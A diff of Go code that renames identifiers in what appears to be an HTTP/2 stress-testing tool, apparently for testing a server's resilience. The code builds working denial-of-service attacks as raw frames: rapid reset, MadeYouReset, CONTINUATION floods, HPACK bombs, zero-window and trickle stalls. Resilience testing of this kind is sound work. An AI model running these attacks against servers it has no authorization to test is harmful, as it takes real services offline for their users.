@@ -10,30 +10,30 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// closed are the manners of a client whose replies have no window.
-var closed = Manners{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}
+// zeroWindow are the manners of a client whose replies have no window.
+var zeroWindow = ConnOptions{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}
 
-// All returns every attack.
-func All(t Target) []Attack {
+// Attacks returns every attack.
+func Attacks(t Target) []Attack {
 	headers := block(shouldRateLimit)
 	request := Request(t.Domain, t.Key, t.Value)
-	opened := opens(headers)
+	opened := openStream(headers)
 	called := func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, request) }
 	return append([]Attack{
-		repeated("calls without pause", Manners{}, 2, called),
+		repeated("calls without pause", ConnOptions{}, 2, called),
 		{Name: "HPACK bomb", begin: hpackBomb},
 		{Name: "headers too large", begin: largeHeaders},
-		repeated("open streams", Manners{}, 1, opened),
+		repeated("open streams", ConnOptions{}, 1, opened),
 		{Name: "DATA of one byte", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1) }},
 		{Name: "requests without an end", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1025) }},
-		{Name: "windows that grow", manners: closed, begin: growWindows},
-		repeated("rapid reset", Manners{}, 2, func(b []byte, stream uint32) []byte {
+		{Name: "windows that grow", options: zeroWindow, begin: growWindows},
+		repeated("rapid reset", ConnOptions{}, 2, func(b []byte, stream uint32) []byte {
 			return appendCode(opened(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
 		}),
-		repeated("rapid reset of whole calls", Manners{}, 3, func(b []byte, stream uint32) []byte {
+		repeated("rapid reset of whole calls", ConnOptions{}, 3, func(b []byte, stream uint32) []byte {
 			return appendCode(called(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
 		}),
-		repeated("MadeYouReset", Manners{}, 3, func(b []byte, stream uint32) []byte {
+		repeated("MadeYouReset", ConnOptions{}, 3, func(b []byte, stream uint32) []byte {
 			return appendCode(called(b, stream), http2.FrameWindowUpdate, stream, 0)
 		}),
 		{Name: "CONTINUATION flood", begin: func(c *Conn) (func() error, error) {
@@ -47,16 +47,16 @@ func All(t Target) []Attack {
 		flood("flood of unknown frames", appendFrame(nil, 0xfe, 0, 0, nil)),
 		{Name: "empty DATA flood", begin: func(c *Conn) (func() error, error) {
 			err := c.Send(1, opened(nil, 1))
-			return c.again(chunk, times(chunk, appendFrame(nil, http2.FrameData, 0, 1, nil))), err
+			return c.repeatBytes(chunk, repeatFrame(chunk, appendFrame(nil, http2.FrameData, 0, 1, nil))), err
 		}},
-		repeated("replies never read", Manners{Deaf: true}, 2, called),
-		repeated("windows of zero", closed, 2, called),
+		repeated("replies never read", ConnOptions{NeverRead: true}, 2, called),
+		repeated("windows of zero", zeroWindow, 2, called),
 	}, append(windowAttacks(headers, request), bombs(t)...)...)
 }
 
 // repeated sends call after call. add appends the frames of one.
-func repeated(name string, m Manners, frames int, add func(b []byte, stream uint32) []byte) Attack {
-	return Attack{Name: name, manners: m, begin: func(c *Conn) (func() error, error) { return c.calls(1, frames, add), nil }}
+func repeated(name string, m ConnOptions, frames int, add func(b []byte, stream uint32) []byte) Attack {
+	return Attack{Name: name, options: m, begin: func(c *Conn) (func() error, error) { return c.callsOf(1, frames, add), nil }}
 }
 
 // chunk is how many small frames are written at once.
@@ -65,7 +65,7 @@ const chunk = 1024
 // flood sends one frame over and over.
 func flood(name string, frame []byte) Attack {
 	return Attack{Name: name, begin: func(c *Conn) (func() error, error) {
-		return c.again(chunk, times(chunk, frame)), nil
+		return c.repeatBytes(chunk, repeatFrame(chunk, frame)), nil
 	}}
 }
 
@@ -125,8 +125,8 @@ func largeHeaders(c *Conn) (func() error, error) {
 // manyStreams is how many streams are held open: as many as sluice allows.
 const manyStreams = 1024
 
-// many returns a step that sends frames on each of that many streams. add appends those of one.
-func (c *Conn) many(frames int, add func(b []byte, stream uint32) []byte) func() error {
+// onManyStreams returns a step that sends frames on each of that many streams. add appends those of one.
+func (c *Conn) onManyStreams(frames int, add func(b []byte, stream uint32) []byte) func() error {
 	var b []byte
 	return func() error {
 		b = b[:0]
@@ -141,19 +141,19 @@ func (c *Conn) many(frames int, add func(b []byte, stream uint32) []byte) func()
 // this size, stream by stream, all but their last bytes.
 func (c *Conn) trickle(headers []byte, size int) (func() error, error) {
 	const message = 64 << 10
-	opened := opens(headers)
-	if err := c.many(2, func(b []byte, stream uint32) []byte {
+	opened := openStream(headers)
+	if err := c.onManyStreams(2, func(b []byte, stream uint32) []byte {
 		return appendFrame(opened(b, stream), http2.FrameData, 0, stream, prefix(message))
 	})(); err != nil {
 		return nil, err
 	}
 	part := make([]byte, size)
-	more := c.many(1, func(b []byte, stream uint32) []byte { return appendFrame(b, http2.FrameData, 0, stream, part) })
+	more := c.onManyStreams(1, func(b []byte, stream uint32) []byte { return appendFrame(b, http2.FrameData, 0, stream, part) })
 	// The window of a stream has room for all but its prefix and the last bytes.
 	left := (defaultWindow - 5) / size
 	return func() error {
 		if left == 0 {
-			return errHold
+			return errKeepOpen
 		}
 		left--
 		return more()
@@ -169,11 +169,11 @@ func growWindows(c *Conn) (func() error, error) {
 	case <-c.greeted:
 	case <-c.ended:
 	}
-	if err := c.many(1, opens(block(reflectionInfo)))(); err != nil {
+	if err := c.onManyStreams(1, openStream(block(reflectionInfo)))(); err != nil {
 		return nil, err
 	}
 	question := Framed(field(7, "*")) // list_services
-	part := times((16<<10)/len(question), question)
+	part := repeatFrame((16<<10)/len(question), question)
 	var sent [manyStreams]int64
 	next := 0
 	var b []byte
@@ -214,5 +214,5 @@ func (c *Conn) continuation(headers []byte, value string) (func() error, error) 
 	}
 	frame := appendFrame(nil, http2.FrameContinuation, 0, 1, fields)
 	n := max(1, (32<<10)/len(frame))
-	return c.again(n, times(n, frame)), nil
+	return c.repeatBytes(n, repeatFrame(n, frame)), nil
 }
